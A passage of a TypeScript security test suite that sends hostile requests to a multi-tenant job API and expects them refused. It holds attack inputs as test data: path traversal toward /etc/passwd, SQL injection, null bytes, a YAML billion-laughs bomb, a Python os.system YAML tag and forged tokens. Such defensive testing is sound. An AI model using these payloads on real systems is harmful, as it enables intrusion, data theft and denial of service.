    ['no time range, only a format', { from: null, to: null, format: 'csv' }],
    ['an empty from', { from: '' }],
    ['an empty to', { to: '' }],
    ['from equal to to', { from: '2026-01-01', to: '2026-01-01' }],
    ['from after to', { from: '2026-03-01', to: '2026-01-01' }],
    ['from yesterday', { from: 'yesterday' }],
    ['to on February 30th', { to: '2026-02-30' }],
    ['format xml', { format: 'xml' }],
    ['format CSV', { format: 'CSV' }],
    ['format json (the format of /usage)', { format: 'json' }],
    ['an empty format', { format: '' }],
    ['limit (the page size of /audit)', { limit: '10' }],
    ['cursor (of /audit)', { cursor: auditCursor('10') }],
    ['a tenant id that is not one', { tenantId: 'Bad_Tenant' }],
    ['an unknown action', { action: 'export' }],
  ];
  const usage = [
    // Windows longer than 400 days, or empty.
    'from=2020-01-01&to=2026-01-01',
    'from=2026-01-01&to=2027-02-06',
    'to=9999-12-31',
    'from=1970-01-01',
    'from=2099-01-01',
    'to=1970-01-02',
    'from=2026-02-01&to=2026-02-01',
    'from=2026-03-01&to=2026-02-01',
    'from=yesterday',
    'from=2026-02-30',
    'to=2026-13-45',
    'from=2026-01-01&from=2026-01-02',
    // Groupings.
    'groupBy=day,month',
    'groupBy=month,tenant,day',
    'groupBy=day&groupBy=month',
    'groupBy[]=day&groupBy[]=month',
    'groupBy=week',
    'groupBy=hour',
    'groupBy=Tenant',
    'groupBy=tenant,,jobType',
    'groupBy=',
    `groupBy=${Array(21).fill('tenant').join(',')}`,
    'groupBy=tenant;jobType',
    // Formats.
    'format=xml',
    'format=CSV',
    'format=jsonl',
    'format=json&format=csv',
    'format=',
    // Filters and parameters it does not take.
    `tenantId=${enc('Bad_Tenant')}`,
    `tenantId=${tooManyTenants}`,
    `tenant=${tenants.a}`,
    'window=30d',
    'bucket=day',
    'limit=10',
    'cursor=x',
    'type=data-etl',
  ];
  const make = (route: RouteId, path: string): HostileRequest => ({
    category: 'bad-query',
    name: shownQuery(path),
    route,
    method: 'GET',
    path,
    expectedStatus: 400,
  });
  const requests: HostileRequest[] = [
    ...audit.map(q => make('GET /audit', `/audit?${q}`)),
    ...exportQueries.map(([name, params]) => ({
      ...make(
        'GET /audit/export',
        queryPath(routes['GET /audit/export'], params),
      ),
      name: `export with ${name}`,
    })),
    ...usage.map(q => make('GET /usage', `/usage?${q}`)),
    // A cursor of GET /audit is none of GET /runs.
    make('GET /runs', `/runs?cursor=${auditCursor('10')}`),
    // Routes that take no query parameters say so.
    make('GET /me', '/me?verbose=true'),
    make('GET /me', `/me?tenantId=${tenants.a}`),
    make('GET /me', '/me?x='),
    // Non-admins are refused before their query is read.
    ...(
      [
        ['GET /admin/tenants', '/admin/tenants?limit=10'],
        ['GET /admin/clusters', '/admin/clusters?cluster=local'],
        ['GET /admin/tenants', `/admin/tenants?tenantId=${enc('Bad_Tenant')}`],
      ] as const
    ).map(([route, path]) => ({ ...make(route, path), expectedStatus: 403 })),
  ];
  // The preview's dryRun is true or false, once; nothing else.
  for (const query of [
    'dryRun=yes',
    'dryRun=TRUE',
    'dryRun=True',
    'dryRun=1',
    'dryRun=0',
    'dryRun=on',
    'dryRun=',
    'dryRun',
    `dryRun=${enc(' true')}`,
    'dryRun=true&dryRun=true',
    'dryRun=true&dryRun=false',
    'dryRun=false&dryRun=true',
    'dryRun=true&x=1',
    'dryRun=true&dry_run=true',
    'dry_run=true',
    'dryrun=true',
    'DryRun=true',
    'dryRun=false&force=true',
    'dryRun=true&tenantId=x',
  ]) {
    requests.push(
      configurationImport(ctx, {
        category: 'bad-query',
        name: `preview: ?${query}`,
        query,
        expectedStatus: 400,
      }),
    );
  }
  return requests;
}

/**
 * Query parameters that name the audit trail's and usage's internals
 * or claim what the caller is not.
 */
function readUnknownParameters(ctx: HostileContext): HostileRequest[] {
  const routes = queryRoutes(ctx);
  const unknown: Array<[QueryRoute | 'GET /me', string[]]> = [
    [
      'GET /audit',
      [
        `runId=${enc(ctx.seededRunId)}`,
        'asAdmin=true',
        'detail=x',
        'id=1',
        'at=2026-01-01',
        'tenantIds=x',
        'actions=run-submit',
        'admin=true',
      ],
    ],
    [
      'GET /audit/export',
      [
        'runId=x',
        'asAdmin=true',
        'filename=..%2F..%2Fetc%2Fpasswd',
        'all=true',
      ],
    ],
    [
      'GET /usage',
      ['jobType=data-etl', 'currency=EUR', 'runId=x', 'admin=true', 'all=true'],
    ],
    ['GET /me', ['admin=true', 'userEntityRef=user:default/admin']],
  ];
  const requests: HostileRequest[] = unknown.flatMap(([route, queries]) =>
    queries.map(
      (query): HostileRequest => ({
        category: 'unknown-fields',
        name: `query ${shownQuery(`?${query}`)}`,
        route,
        method: 'GET',
        path:
          route === 'GET /me'
            ? `/me?${query}`
            : queryPath(routes[route], {}, query),
        expectedStatus: 400,
      }),
    ),
  );
  for (const route of ['GET /admin/tenants', 'GET /admin/clusters'] as const) {
    requests.push({
      category: 'unknown-fields',
      name: 'query ?admin=true by a non-admin',
      route,
      method: 'GET',
      path: `${route.slice(4)}?admin=true`,
      expectedStatus: 403,
    });
  }
  for (const query of [
    'dryRun=true&force=true',
    `dryRun=true&tenant=${enc(ctx.org.tenants.b)}`,
    'dryRun=false&overwrite=true',
  ]) {
    requests.push(
      configurationImport(ctx, {
        category: 'unknown-fields',
        name: `preview: query ?${query}`,
        query,
        expectedStatus: 400,
      }),
    );
  }
  return requests;
}

/**
 * Other tenants' audit trails, the platform team's routes for non-admins
 * (the suite configures no platform team), and previews of other
 * tenants' imports.
 */
function readCrossTenant(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const routes = queryRoutes(ctx);
  const get = (
    name: string,
    route: RouteId,
    path: string,
    as: UserKey,
    extra: Partial<HostileRequest> = {},
  ): HostileRequest => ({
    category: 'cross-tenant',
    name,
    route,
    method: 'GET',
    path,
    as,
    expectedStatus: 403,
    ...extra,
  });
  const requests: HostileRequest[] = [
    get(
      "bob reads tenant a's audit",
      'GET /audit',
      `/audit?tenantId=${enc(tenants.a)}`,
      'bob',
    ),
    get(
      "bob reads his and tenant a's audit",
      'GET /audit',
      `/audit?tenantId=${enc(`${tenants.b},${tenants.a}`)}`,
      'bob',
    ),
    get(
      "bob reads his and tenant a's audit, repeated",
      'GET /audit',
      `/audit?tenantId=${enc(tenants.b)}&tenantId=${enc(tenants.a)}`,
      'bob',
    ),
    get(
      "carol reads tenant a's refused submissions",
      'GET /audit',
      `/audit?tenantId=${enc(
        tenants.a,
      )}&action=run-submit&outcome=refused&limit=200`,
      'carol',
    ),
    get(
      "mallory reads tenant a's audit",
      'GET /audit',
      `/audit?tenantId=${enc(tenants.a)}`,
      'mallory',
    ),
    get(
      'mallory reads the audit of a reserved tenant her group claims',
      'GET /audit',
      '/audit?tenantId=kube-system',
      'mallory',
    ),
    get(
      "alice reads tenant b's audit",
      'GET /audit',
      `/audit?tenantId=${enc(tenants.b)}`,
      'alice',
    ),
    get(
      'alice reads the audit of a tenant no group owns',
      'GET /audit',
      `/audit?tenantId=${enc(`${tenants.a}-x`)}`,
      'alice',
    ),
    get(
      "bob exports tenant a's audit",
      'GET /audit/export',
      queryPath(routes['GET /audit/export'], { tenantId: tenants.a }),
      'bob',
    ),
    get(
      "carol exports tenant a's audit as JSON Lines",
      'GET /audit/export',
      queryPath(routes['GET /audit/export'], {
        tenantId: tenants.a,
        format: 'jsonl',
      }),
      'carol',
    ),
    get(
      "mallory exports tenants a's and b's audit",
      'GET /audit/export',
      queryPath(routes['GET /audit/export'], {
        tenantId: `${tenants.a},${tenants.b}`,
      }),
      'mallory',
    ),
    get(
      "a user the catalog does not know reads tenant a's audit",
      'GET /audit',
      `/audit?tenantId=${enc(tenants.a)}`,
      'alice',
      {
        authorization: `Bearer mock-user-token:${JSON.stringify({
          sub: 'user:default/eve',
        })}`,
      },
    ),
  ];
  for (const route of ['GET /admin/tenants', 'GET /admin/clusters'] as const) {
    for (const user of ['alice', 'bob', 'carol', 'mallory'] as const) {
      requests.push(
        get(`${user} (no admin)`, route, route.slice(4), user, {
          expectedErrorName: 'NotAllowedError',
        }),
      );
    }
  }
  for (const [name, as, tenantId, query] of [
    ['bob previews an import into tenant a', 'bob', tenants.a, 'dryRun=true'],
    [
      'mallory previews an import into tenant a',
      'mallory',
      tenants.a,
      'dryRun=true',
    ],
    [
      'carol imports into tenant a with dryRun=false',
      'carol',
      tenants.a,
      'dryRun=false',
    ],
    [
      'bob previews into tenant a with a bad dryRun',
      'bob',
      tenants.a,
      'dryRun=yes',
    ],
    [
      'alice previews an import into tenant b',
      'alice',
      tenants.b,
      'dryRun=true',
    ],
    [
      'alice previews an import into a tenant no group owns',
      'alice',
      `${tenants.a}-x`,
      'dryRun=true',
    ],
  ] as Array<[string, UserKey, string, string]>) {
    requests.push(
      configurationImport(ctx, {
        category: 'cross-tenant',
        name,
        as,
        query,
        tenantPath: enc(tenantId),
        expectedStatus: 403,
      }),
    );
  }
  return requests;
}

/**
 * The preview with hostile tenant ids, bodies and content types: refused
 * as an import is, creating nothing.
 */
function previewAbuse(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const preview = (
    category: HostileCategory,
    name: string,
    fields: Pick<
      HostileRequest,
      'body' | 'expectedStatus' | 'expectedErrorName'
    > & { tenantPath?: string },
  ) =>
    configurationImport(ctx, {
      category,
      name: `preview: ${name}`,
      query: 'dryRun=true',
      ...fields,
    });
  const ids: Array<[string, string, number]> = [
    ['null byte', '%00', 400],
    ["tenant a's id and a null byte", `${enc(tenants.a)}%00`, 400],
    ['path traversal', '..%2F..%2Fadmin%2Ftenants', 400],
    ['an encoded slash', '%2F', 400],
    ['SQL: always true', enc("' OR '1'='1"), 400],
    ['malformed percent-encoding', '%E0%A4%A', 400],
    ['a lone percent sign', '%', 400],
    ['very long (8000 characters)', 'a'.repeat(8000), 400],
    ['very long in multi-byte characters', enc('é'.repeat(1000)), 400],
    ["tenant a's id upper-cased", enc(tenants.a.toUpperCase()), 400],
    ["tenant a's id with a leading space", enc(` ${tenants.a}`), 400],
    ...foreignStrings(3, 9, 'grapheme').map((id): [string, string, number] => [
      `unicode ${JSON.stringify(id)}`,
      enc(id),
      400,
    ]),
  ];
  const requests: HostileRequest[] = ids.map(([name, id, status]) =>
    preview('hostile-id', `tenant id ${name}`, {
      tenantPath: id,
      expectedStatus: status,
    }),
  );
  const document = (text: string) =>
    `apiVersion: tenant-jobs.io/v1\nkind: TenantJobsConfiguration\n${text}`;
  const entry = `{ jobType: ${ctx.jobType}, cron: '0 5 * * *', paused: true }`;
  const laughs = [
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    ...Array.from(
      { length: 8 },
      (_, i) =>
        `${String.fromCharCode(98 + i)}: &${String.fromCharCode(
          98 + i,
        )} [${Array(9)
          .fill(`*${String.fromCharCode(97 + i)}`)
          .join(',')}]`,
    ),
  ].join('\n');
  const yaml = (name: string, text: string, status = 400) =>
    preview('schedules-triggers-configuration', name, {
      body: raw(text, 'application/yaml'),
      expectedStatus: status,
    });
  requests.push(
    yaml('an alias', document(`schedules:\n  - &s ${entry}\n  - *s\n`)),
    yaml('a billion laughs', `${laughs}\n`),
    yaml('an explicit tag', document('schedules: !!seq []\n')),
    yaml(
      'a custom tag',
      document(`schedules:\n  - !!python/object/apply:os.system ["id"]\n`),
    ),
    yaml(
      'a merge key',
      document(
        `defaults: &d { paused: true }\nschedules:\n  - { <<: *d, jobType: ${ctx.jobType}, cron: '0 5 * * *' }\n`,
      ),
    ),
    yaml(
      'two documents, the second importable',
      `${document('schedules: []\n')}---\n${importableDocument(ctx)}`,
    ),
    yaml('not a mapping', '- a\n- b\n'),
    yaml('a scalar', 'importable\n'),
    yaml('invalid YAML', document('schedules: [\n')),
    yaml('a tab indentation', document(`schedules:\n\t- ${entry}\n`)),
    yaml('only whitespace', ' \n\t\n'),
    yaml(
      'nested 5000 flow sequences deep',
      document(`schedules: ${'['.repeat(5000)}${']'.repeat(5000)}\n`),
    ),
    preview('schedules-triggers-configuration', 'an empty body', {
      body: raw('', 'application/yaml'),
      expectedStatus: 400,
    }),
    preview('schedules-triggers-configuration', 'no body', {
      body: undefined,
      expectedStatus: 400,
    }),
  );
  const big = (size: number) =>
    `${importableDocument(ctx)}# ${'x'.repeat(size)}\n`;
  requests.push(
    preview('oversize-body', 'a 70 kB document', {
      body: raw(big(70 * 1024), 'application/yaml'),
      expectedStatus: 413,
    }),
    preview('oversize-body', 'a 1 MB document', {
      body: raw(big(1024 * 1024), 'application/yaml'),
      expectedStatus: 413,
    }),
  );
  for (const contentType of [
    'text/plain',
    'application/xml',
    'application/x-www-form-urlencoded',
    'application/octet-stream',
    'text/yaml; charset=utf-16',
  ]) {
    requests.push(
      preview('wrong-content-type', `as ${contentType}`, {
        body: raw(importableDocument(ctx), contentType),
        // YAML in another encoding than UTF-8 is still YAML: 400 or 415.
        expectedStatus: contentType.includes('charset') ? undefined : 415,
      }),
    );
  }
  requests.push(
    preview('malformed-json', 'a truncated JSON body', {
      body: raw('{"apiVersion":'),
      expectedStatus: 400,
      expectedErrorName: 'InputError',
    }),
    preview('malformed-json', 'a JSON string with an invalid escape', {
      body: raw('"apiVersion: \\x41"'),
      expectedStatus: 400,
      expectedErrorName: 'InputError',
    }),
  );
  return requests;
}

/**
 * The hostile requests of the suite, in a fixed order: the `last` ones
 * (see there) at the end.
 */
export function hostileRequests(ctx: HostileContext): HostileRequest[] {
  const all = [
    ...hostileIds(ctx),
    ...unicodeAndNullBytes(ctx),
    ...oversizeBodies(ctx),
    ...prototypePollution(ctx),
    ...yamlAndShell(ctx),
    ...wrongTypes(ctx),
    ...wrongContentTypes(ctx),
    ...malformedJson(ctx),
    ...unknownFields(ctx),
    ...crossTenant(ctx),
    ...auth(ctx),
    ...badQueries(ctx),
    ...schedulesTriggersConfiguration(ctx),
    ...readQueryStrings(ctx),
    ...readQueryShapes(ctx),
    ...readBadQueries(ctx),
    ...readUnknownParameters(ctx),
    ...readCrossTenant(ctx),
    ...previewAbuse(ctx),
  ];
  return [...all.filter(r => !r.last), ...all.filter(r => r.last)];
}
